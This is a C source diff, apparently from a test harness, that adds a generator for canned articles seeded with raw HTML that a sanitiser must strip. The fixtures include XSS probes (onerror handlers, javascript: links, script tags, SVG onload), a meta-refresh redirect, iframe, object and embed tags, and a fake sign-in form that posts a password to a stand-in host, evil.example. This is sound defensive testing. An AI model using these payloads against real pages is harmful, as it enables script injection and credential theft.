@@ -897,11 +897,12 @@ canned_paragraph(struct canned_ctx *g, struct buf *b, size_t *order, size_t *nex
 /*
  * Build the markdown article for prompt: an intro, "## Key Takeaways",
  * three or four sections with one code block and a second link, and
- * "## Conclusion", about 600 to 900 words in all.  Owned by the caller;
- * never NULL.
+ * "## Conclusion", with words words of prose and up to spread more (the
+ * sections are filled to that, so the total is a little above it).
+ * Owned by the caller; never NULL.
  */
-char *
-canned_article(const char *prompt)
+static char *
+canned_article_sized(const char *prompt, size_t words_min, size_t spread)
 {
 	struct canned_ctx	 g;
 	struct buf	 b, tail;
@@ -917,7 +918,7 @@ canned_article(const char *prompt)
 	canned_shuffle(&g, order, nitems(order));
 	canned_shuffle(&g, heads, nitems(heads));
 	canned_shuffle(&g, take, nitems(take));
-	target = 640 + canned_pick(&g, 180);
+	target = words_min + canned_pick(&g, spread);
 	nsec = 3 + canned_pick(&g, 2);
 	ntake = 3 + canned_pick(&g, 3);
 	code_sec = canned_pick(&g, nsec);
@@ -991,5 +992,107 @@ canned_article(const char *prompt)
 	buf_append(&b, tail.b_data, tail.b_len);
 	buf_release(&tail);
 	canned_ctx_release(&g);
+	return (buf_detach(&b));
+}
+
+/* The article of a normal reply: about 640 to 890 words. */
+char *
+canned_article(const char *prompt)
+{
+	return (canned_article_sized(prompt, 640, 180));
+}
+
+/*
+ * Raw HTML a sanitiser must remove, for canned_article_hostile(): the
+ * first part follows the intro, the second comes before the conclusion.
+ * Each hostile construct carries a HOSTILE-* marker where the sanitiser
+ * must take it out (in the element's content, an event handler or a URL
+ * with a bad scheme), so a page built from it must hold none of them.
+ */
+static const char canned_hostile_intro[] =
+    "A short summary of the release notes follows."
+    "<img src=\"x\" onerror=\"alert(1)//HOSTILE-ONERROR\"> For every "
+    "detail, see [the release notes](javascript:alert(1)//HOSTILE-MDJSURL) "
+    "or <a href=\"javascript:alert(1)//HOSTILE-JSURL\">the changelog</a>."
+    "\n\n<script>alert(1)//HOSTILE-SCRIPT</script>\n\n"
+    "<style>body{display:none} /* HOSTILE-STYLE */</style>\n\n"
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/"
+    "HOSTILE-META\">";
+
+static const char canned_hostile_embeds[] =
+    "<iframe src=\"https://evil.example/HOSTILE-IFRAME\" width=\"640\" "
+    "height=\"360\"></iframe>\n\n"
+    "<object data=\"https://evil.example/HOSTILE-OBJECT.swf\" "
+    "type=\"application/x-shockwave-flash\"></object>\n\n"
+    "<embed src=\"https://evil.example/HOSTILE-EMBED.swf\" "
+    "type=\"application/x-shockwave-flash\">\n\n"
+    "<form action=\"https://evil.example/HOSTILE-FORM\" method=\"post\">"
+    "<input type=\"password\" name=\"HOSTILE-INPUT\"><input "
+    "type=\"submit\" value=\"Sign in\"></form>\n\n"
+    "<svg width=\"20\" height=\"20\"><script>alert(1)//HOSTILE-SVGSCRIPT"
+    "</script><circle cx=\"10\" cy=\"10\" r=\"8\" "
+    "onload=\"alert(1)//HOSTILE-SVGONLOAD\"/></svg>\n";
+
+/*
+ * Harmless structure that must survive a sanitiser, each piece with a
+ * BENIGN-* marker in its text.
+ */
+static const char canned_benign[] =
+    "## At a Glance\n\n"
+    "<table>\n"
+    "<thead><tr><th>Aspect</th><th>Summary</th></tr></thead>\n"
+    "<tbody>\n"
+    "<tr><td>BENIGN-TABLE</td><td>Rows and cells stay as written.</td>"
+    "</tr>\n"
+    "<tr><td>Rollout</td><td>Gradual, observable and easy to reverse."
+    "</td></tr>\n"
+    "</tbody>\n"
+    "</table>\n\n"
+    "<figure><img src=\"https://example.com/standin/figure.png\" "
+    "alt=\"A sketch of the request path\"><figcaption>BENIGN-FIGURE: the "
+    "request path at a glance.</figcaption></figure>\n\n"
+    "Two lines of the BENIGN-BR note:<br>measure first,<br>then change "
+    "one thing at a time.\n\n"
+    "<details><summary>BENIGN-DETAILS: how the numbers were taken"
+    "</summary>\n<p>Each run was repeated five times and the median was "
+    "kept.</p>\n</details>\n\n"
+    "<svg width=\"48\" height=\"48\" viewBox=\"0 0 48 48\" role=\"img\">"
+    "<desc>BENIGN-SVG</desc><circle cx=\"24\" cy=\"24\" r=\"20\" "
+    "fill=\"#3b82f6\"/></svg>\n\n";
+
+/*
+ * The article of the "hostile" fault: a normal article (shorter, about
+ * 520 to 640 words of prose, so that with the HTML it still fits the
+ * worker's output cap) with canned_hostile_intro after the intro, and a
+ * section of canned_benign and canned_hostile_embeds before the
+ * conclusion.  Owned by the caller; never NULL.
+ */
+char *
+canned_article_hostile(const char *prompt)
+{
+	struct buf	 b;
+	char		*body, *takeaways, *conclusion;
+
+	body = canned_article_sized(prompt, 520, 120);
+	takeaways = strstr(body, "\n\n## Key Takeaways");
+	conclusion = strstr(body, "\n## Conclusion");
+	buf_init(&b);
+	if (takeaways == NULL || conclusion == NULL || conclusion < takeaways) {
+		/* not built as canned_article_sized() builds it: append */
+		buf_puts(&b, body);
+		buf_printf(&b, "\n\n%s\n\n%s\n%s", canned_hostile_intro,
+		    canned_benign, canned_hostile_embeds);
+		free(body);
+		return (buf_detach(&b));
+	}
+	buf_append(&b, body, (size_t)(takeaways - body));
+	buf_puts(&b, "\n\n");
+	buf_puts(&b, canned_hostile_intro);
+	buf_append(&b, takeaways, (size_t)(conclusion - takeaways));
+	buf_puts(&b, "\n");
+	buf_puts(&b, canned_benign);
+	buf_puts(&b, canned_hostile_embeds);
+	buf_puts(&b, conclusion);
+	free(body);
 	return (buf_detach(&b));
 }
